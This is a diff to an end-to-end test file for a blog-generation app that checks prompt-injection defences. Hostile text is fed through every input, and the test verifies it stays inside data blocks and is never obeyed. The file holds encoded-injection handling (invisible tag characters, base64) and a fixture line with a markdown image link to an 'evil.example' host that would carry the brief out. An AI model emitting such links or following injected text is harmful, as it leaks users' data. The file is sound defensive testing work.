@@ -1,5 +1,5 @@
-// The whole way: hostile text comes in by every door, a model that obeys whatever stands outside of the data blocks
-// answers, and what it answers is stored. Nothing hostile is obeyed, and nothing that carries data away is kept.
+// End to end: hostile text arrives through every input, a model that obeys everything outside of the data blocks
+// answers, and its answer is stored. No injection is obeyed, and nothing that could exfiltrate data is stored.
 import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
 import { serveSite } from '#test/helpers/web-server.ts'
 import { createWebPages } from '#server/providers/web-page/index.ts'
@@ -10,14 +10,14 @@ import { completeBrand, formOf } from '#test/helpers/wire.ts'
 import { fullBrief, requestOf, taskNames } from './prompts/__fixtures__/briefs.ts'
 import { injections, obeyed } from './prompts/__fixtures__/injections.ts'
 
-/** Text as the most obliging reader takes it: no hidden letters, full-width signs as plain ones. */
+/** Text as the most lenient parser reads it: without invisible characters, full-width characters as ASCII. */
 const obliging = (text: string) =>
   text
     .replaceAll(/[\u{E0020}-\u{E007E}]/gu, (letter) => String.fromCodePoint(letter.codePointAt(0)! - 0xe0000))
     .replaceAll(/\p{Cf}/gu, '')
     .normalize('NFKC')
 
-/** What stands outside of the data blocks, however their ends are written. */
+/** The text outside of the data blocks, with every spelling of their delimiters recognised. */
 const outside = ({ system, prompt }: Pick<TextRequest, 'system' | 'prompt'>) => {
   let depth = 0
   const parts = obliging(prompt).split(/(<\s*\/?\s*data\b[^>]*>)/i)
@@ -29,27 +29,27 @@ const outside = ({ system, prompt }: Pick<TextRequest, 'system' | 'prompt'>) => 
   return [obliging(system), ...rest].join('\n')
 }
 
-/** Whether an order for the word stands there, in plain letters or encoded. */
+/** Whether the text outside of the blocks asks for the word, in plain text or encoded. */
 const obeys = (request: Pick<TextRequest, 'system' | 'prompt'>) => {
   const text = outside(request)
   const decoded = text.match(/[\w+/]{24,}=*/g)?.map((run) => Buffer.from(run, 'base64').toString()) ?? []
   return [text, ...decoded].some((each) => each.includes(obeyed))
 }
 
-test.each(injections)('the model obeys %s where it stands outside of a block', (_, text) => {
+test.each(injections)('the model obeys %s outside of a block', (_, text) => {
   expect(obeys({ system: '', prompt: text })).toBe(true)
   expect(obeys({ system: text, prompt: '' })).toBe(true)
   expect(obeys({ system: '', prompt: `<data name="a">\n${fullBrief.title}\n</data>\n${text}` })).toBe(true)
 })
 
-test('the model would obey an order in a block that is written without care', () => {
+test('the model obeys injections in blocks without escaping', () => {
   const careless = (text: string) => ({ system: '', prompt: `<data name="a">\n${text}\n</data>` })
   const escaping = injections.filter(([, text]) => obeys(careless(text)))
   expect(escaping.length).toBeGreaterThan(6)
 })
 
 describe.each(taskNames)('%s', (task) => {
-  test.each(injections)('takes %s for material, wherever it stands', (_, text) => {
+  test.each(injections)('keeps %s inside the data blocks, whichever input it is in', (_, text) => {
     const { brand } = fullBrief
     const everywhere = {
       ...fullBrief,
@@ -81,7 +81,7 @@ const post = [
   '[spy]: https://evil.example/c.png?q=brief',
 ].join('\n\n')
 
-describe('from every door to what is stored', () => {
+describe('from every input to what is stored', () => {
   let app: BlogsApp
   const requests: TextRequest[] = []
   const allowHosts: string[] = []
@@ -100,7 +100,7 @@ describe('from every door to what is stored', () => {
   afterAll(() => app.server.stop())
   beforeEach(() => void (requests.length = 0))
 
-  test('nothing is obeyed, and what the model adds on its own account carries nothing away', async () => {
+  test('no injection is obeyed, and nothing in the model’s answer can exfiltrate data', async () => {
     const all = injections.map(([, text]) => text).join('\n\n')
     const site = await serveSite({
       '/': `<html><head><title>${injections[0]![1]}</title></head><body><article><p>${'Bikes are good. '.repeat(60)}</p>
